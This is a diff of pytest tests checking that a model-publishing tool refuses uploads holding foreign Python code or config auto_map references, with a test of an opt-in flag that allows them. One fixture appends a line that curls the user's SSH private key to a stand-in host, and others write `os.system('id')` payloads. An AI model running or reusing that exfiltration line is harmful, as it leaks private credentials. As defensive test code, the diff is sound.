@@ -1,12 +1,18 @@
 """`hf-norms push` against hostile folders and inputs: symbolic links, the token in what is published, short tokens,
-bad repo ids, missing folders and include/exclude patterns. Each refusal is checked on the loopback Hub (nothing
-uploaded, no repo created) and on disk (no local file changed)."""
+bad repo ids, missing folders, include/exclude patterns, and code that is not hf-norms' own (an edited or extra `.py`
+file, an `auto_map` in any config naming other code). Each refusal is checked on the loopback Hub (nothing uploaded, no
+repo created) and on disk (no local file changed)."""
 
 from __future__ import annotations
 
 import hashlib
+import json
+import logging
 import os
+import re
 import shutil
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -204,3 +210,127 @@ def test_a_pattern_never_uploads_a_file_hf_norms_skips(checkpoint: Path, api: Hf
     assert "checkpoint-5/model.safetensors" in files and not {".env", "training_args.bin"} & set(files)
     (checkpoint / "hf_token.txt").write_text(f"login {TOKEN}")
     assert_refused_and_nothing_uploaded(api, "org/leak", tmp_path, "hf_token.txt", include="*")
+
+
+# --------------------------------------------------------------------------------------------------------------------
+# Code that is not hf-norms' own
+# --------------------------------------------------------------------------------------------------------------------
+
+
+def assert_refused_on_the_command_line(
+    checkpoint: Path, api: HfApi, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch, match: str, *args: str
+) -> str:
+    """`hf-norms push org/code-refused CHECKPOINT ARGS`: exit 2, one line naming `match`, no repo created."""
+    monkeypatch.setenv("HF_ENDPOINT", api.endpoint)
+    monkeypatch.setenv("HF_TOKEN", TOKEN)
+    assert cli.main(["push", "org/code-refused", str(checkpoint), *args]) == 2
+    (line,) = [line for line in capsys.readouterr().err.splitlines() if "error" in line]  # after the loading bar
+    assert line.startswith("hf-norms push: error: ") and re.search(match, line), line
+    assert "--allow-custom-code" in line and not api.repo_exists("org/code-refused")
+    return line
+
+
+def test_an_edited_modeling_file_is_refused(
+    checkpoint: Path, api: HfApi, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A line appended to a model file (as someone else's edit would) runs for every `trust_remote_code=True` user."""
+    with open(checkpoint / "modeling_vit_norm.py", "a") as code:
+        code.write("\nimport os; os.system('curl -d @$HOME/.ssh/id_rsa https://example.org')\n")
+    assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"modeling_vit_norm\.py differs from")
+    (checkpoint / "modeling_vit_norm.py").write_bytes((checkpoint / "norm_dyt.py").read_bytes())  # another file's code
+    assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"modeling_vit_norm\.py differs from")
+
+
+def test_a_python_file_that_is_not_a_model_file_is_refused(
+    checkpoint: Path, api: HfApi, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch, caplog
+) -> None:
+    """An extra helpers.py stays local; included, it is refused, and so is a model file's name in a subfolder."""
+    caplog.set_level(logging.INFO)
+    (checkpoint / "helpers.py").write_text("import os\nos.system('id')\n")
+    assert "helpers.py" not in dry_run_files(checkpoint) and "Not uploading helpers.py: not a file" in caplog.text
+    assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, r"helpers\.py is not", "--include", "*.py")
+    (checkpoint / "helpers.py").unlink()
+    (checkpoint / "sub").mkdir()
+    shutil.copy(checkpoint / "norms.py", checkpoint / "sub" / "norms.py")
+    assert_refused_on_the_command_line(
+        checkpoint, api, capsys, monkeypatch, r"sub/norms\.py is not", "--include", "sub/"
+    )
+
+
+# (file, JSON to write, a key of it to merge into an existing file, or None)
+CODE_REFERENCES = {
+    "tokenizer auto_map to a local file": ("tokenizer_config.json", {"tokenizer_class": "BertTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_norms.NormTokenizer", None]}}),
+    "image processor auto_map to another repo": ("preprocessor_config.json", {"auto_map": {"AutoImageProcessor": "someone/processors--image_processing.Processor"}}),
+    "config auto_map with an extra entry": ("config.json", {"auto_map": {"AutoTokenizer": "tokenization_norms.NormTokenizer"}}),
+    "config auto_map entry pointing at another repo": ("config.json", {"auto_map": {"AutoModelForCausalLM": "someone/repo--modeling_vit_norm.ViTNormModel"}}),
+    "config custom pipeline": ("config.json", {"custom_pipelines": {"feature-extraction": {"impl": "pipeline_norms.Pipe", "pt": ["AutoModel"]}}}),
+    "auto_map nested in a processor config": ("generation_config.json", {"processor": {"auto_map": {"AutoProcessor": "processing_norms.Proc"}}}),
+    "sentence-transformers module of custom code": ("modules.json", [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1_Pool", "type": "pooling_norms.Pool"}]),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("case", CODE_REFERENCES)
+def test_a_config_naming_code_that_is_not_hf_norms_is_refused(
+    case: str, checkpoint: Path, api: HfApi, capsys: pytest.CaptureFixture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    name, written = CODE_REFERENCES[case]
+    path = checkpoint / name
+    if path.is_file():  # merge into the checkpoint's own file, keeping what it needs to load
+        old = json.loads(path.read_text())
+        written = {**old, **written, "auto_map": {**old.get("auto_map", {}), **written.get("auto_map", {})}}
+    path.write_text(json.dumps(written))
+    (checkpoint / "tokenization_norms.py").write_text("import os\nos.system('id')\n")  # left out, but named
+    assert_refused_on_the_command_line(checkpoint, api, capsys, monkeypatch, rf"{re.escape(name)} names code")
+
+
+def test_allow_custom_code_publishes_it_and_the_card_says_so(checkpoint: Path, api: HfApi, tmp_path: Path) -> None:
+    with open(checkpoint / "modeling_vit_norm.py", "a") as code:
+        code.write("\n# a local change\n")
+    (checkpoint / "helpers.py").write_text("HELP = 1\n")
+    config = json.loads((checkpoint / "preprocessor_config.json").read_text())
+    config["auto_map"] = {"AutoImageProcessor": "helpers.Processor"}
+    (checkpoint / "preprocessor_config.json").write_text(json.dumps(config))
+    push_to_hub(checkpoint, "org/custom", endpoint=api.endpoint, token=TOKEN, include="helpers.py",
+                allow_custom_code=True)  # fmt: skip
+    assert {"helpers.py", "modeling_vit_norm.py", "preprocessor_config.json"} <= set(api.list_repo_files("org/custom"))
+    card = Path(hf_hub_download("org/custom", "README.md", endpoint=api.endpoint, token=TOKEN, cache_dir=tmp_path))
+    text = card.read_text()
+    assert "This repository holds code that is not hf-norms' own" in text and "trust_remote_code=True" in text
+    assert '"helpers.py", "modeling_vit_norm.py", "preprocessor_config.json"' in text
+    assert "Do not load this repository with `trust_remote_code=True`" in text
+    assert not re.search(r"\(.*trust_remote_code=True.*\)", text) and "trust_remote_code=False)" in text
+
+
+LOAD_AS_THE_CARD_SAYS = """
+import json, sys
+import hf_norms
+from PIL import Image
+from transformers import AutoModel, pipeline
+repo, trust = sys.argv[1], json.loads(sys.argv[2])
+kwargs = {"trust_remote_code": trust}
+model = AutoModel.from_pretrained(repo, **kwargs)
+features = pipeline("image-feature-extraction", model=repo, **kwargs)(Image.new("RGB", (32, 32)))
+print(json.dumps({"model": type(model).__module__, "features": len(features[0])}))
+"""
+
+
+def test_custom_code_loaded_as_its_card_says_never_runs(checkpoint: Path, api: HfApi, tmp_path: Path) -> None:
+    """The card of a repo with custom code says: `import hf_norms` and `trust_remote_code=False`. Loaded so, by model
+    and by pipeline in a fresh process, the repo's image processor code does not run; with `trust_remote_code=True` it
+    does."""
+    marker = tmp_path / "ran"
+    (checkpoint / "image_processing_norms.py").write_text(
+        f"open({str(marker)!r}, 'w').write('ran')\nfrom transformers import ViTImageProcessor as Processor\n"
+    )
+    config = json.loads((checkpoint / "preprocessor_config.json").read_text())
+    config["auto_map"] = {"AutoImageProcessor": "image_processing_norms.Processor"}
+    (checkpoint / "preprocessor_config.json").write_text(json.dumps(config))
+    push_to_hub(checkpoint, "org/custom-processor", endpoint=api.endpoint, token=TOKEN, include="*.py",
+                allow_custom_code=True)  # fmt: skip
+    env = {**os.environ, "HF_ENDPOINT": api.endpoint, "HF_TOKEN": TOKEN, "HF_HUB_OFFLINE": "0"}
+    for trust in (False, True):
+        env["HF_HOME"] = str(tmp_path / f"home-{trust}")
+        done = subprocess.run([sys.executable, "-c", LOAD_AS_THE_CARD_SAYS, "org/custom-processor", json.dumps(trust)],
+                              env=env, capture_output=True, text=True, timeout=300)  # fmt: skip
+        assert done.returncode == 0, done.stderr[-3000:]
+        assert json.loads(done.stdout.splitlines()[-1])["features"] > 0 and marker.exists() == trust
